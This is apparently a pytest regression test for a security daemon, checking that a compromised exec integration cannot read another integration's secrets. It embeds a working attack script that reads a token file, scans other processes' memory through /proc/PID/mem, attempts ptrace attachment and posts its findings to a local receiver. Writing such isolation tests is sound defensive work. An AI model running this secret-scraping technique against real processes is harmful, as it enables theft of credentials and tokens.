# SPDX-License-Identifier: Apache-2.0
"""Integration isolation (issue 8): a compromised integration does not reach
another's secrets. The attacker is an `exec` integration's program — code an
administrator vetted, then someone replaced — run by the real daemon for a real
alert. It tries every way the issue found open: the http integration's token
file on disk, the daemon's and the other workers' memory through
/proc/PID/mem, and ptrace. It prints what it got; the test asserts it got
nothing, from the action's recorded output."""
import json
import os

import pytest

from conftest import exec_integration, exec_playbook, ssh_alert

TOKEN = "tok-" + "7f3a9c" * 8
HEADER_SECRET = "hdr-" + "c0ffee" * 8

ATTACK = r'''#!/usr/bin/python3
import ctypes, os, sys
secrets = [b"@TOKEN@", b"@HEADER@"]
token_file = "@FILE@"
found, tried = [], []

def scan(data, where):
    for s in secrets:
        if s in data:
            found.append(f"{where}: {s.decode()[:4]}")

try:
    with open(token_file, "rb") as f:
        scan(f.read(), "token_file")
    tried.append("token_file: read")
except OSError as e:
    tried.append(f"token_file: {e.strerror}")

me = os.getpid()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmd = f.read()
    except OSError:
        continue
    if b"bulwarkd" not in cmd and b"connector-worker" not in cmd:
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        tried.append(f"mem {pid}: {e.strerror}")
        continue
    n = 0
    for line in maps:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if "rw" not in line.split()[1] or hi - lo > (64 << 20):
            continue
        try:
            mem.seek(lo)
            scan(mem.read(hi - lo), f"mem {pid}")
            n += 1
        except (OSError, OverflowError, ValueError):
            pass
    tried.append(f"mem {pid}: read {n} regions")
    libc = ctypes.CDLL(None, use_errno=True)
    PTRACE_ATTACH = 16
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        tried.append(f"ptrace {pid}: attached")
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee's stop
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: let it run again
    else:
        tried.append(f"ptrace {pid}: {os.strerror(ctypes.get_errno())}")
import json, urllib.request
body = json.dumps({"found": found, "tried": tried}).encode()
urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:@PORT@/report", data=body), timeout=5)
'''


def http_integration(tmp_path):
    token = tmp_path / "edr-token"
    token.write_text(TOKEN + "\n")
    os.chmod(token, 0o600)
    return token, f"""\
  - name: edr
    kind: http
    settings:
      url: http://127.0.0.1:9/isolate
      allow_http_loopback: true
      token_file: {token}
      headers: ["X-Api-Key: {HEADER_SECRET}"]
"""




@pytest.mark.xfail(strict=True, reason="issue 8: connector workers are not confined yet")
def test_an_exec_program_cannot_read_another_integrations_secrets(make_daemon, tmp_path, receiver):
    token, edr = http_integration(tmp_path)
    prog = tmp_path / "attack"
    prog.write_text(ATTACK.replace("@TOKEN@", TOKEN).replace("@HEADER@", HEADER_SECRET)
                    .replace("@FILE@", str(token)).replace("@PORT@", str(receiver.port)))
    os.chmod(prog, 0o755)
    integrations = edr + exec_integration(tmp_path, "prog", prog, call_timeout_ms=20000, writable=False)
    d = make_daemon(integrations=integrations, playbooks={"prog.yaml": exec_playbook("prog")}).start()
    r = d.post_alert(ssh_alert())
    assert r.status_code == 202, r.text
    d.execution_of(r.json()["id"])
    reports = [q for q in receiver.requests if q["path"] == "/report"]
    assert len(reports) == 1, f"the program did not report: {d.log.read_text()[-3000:]}"
    report = json.loads(reports[0]["body"])
    # It really tried: it saw the daemon and the http integration's worker.
    tried = " ".join(report["tried"])
    assert "token_file:" in tried and "mem " in tried, report
    assert report["found"] == [], f"secrets leaked to the exec program: {report}"
    assert "token_file: read" not in tried, report
    assert "attached" not in tried, report
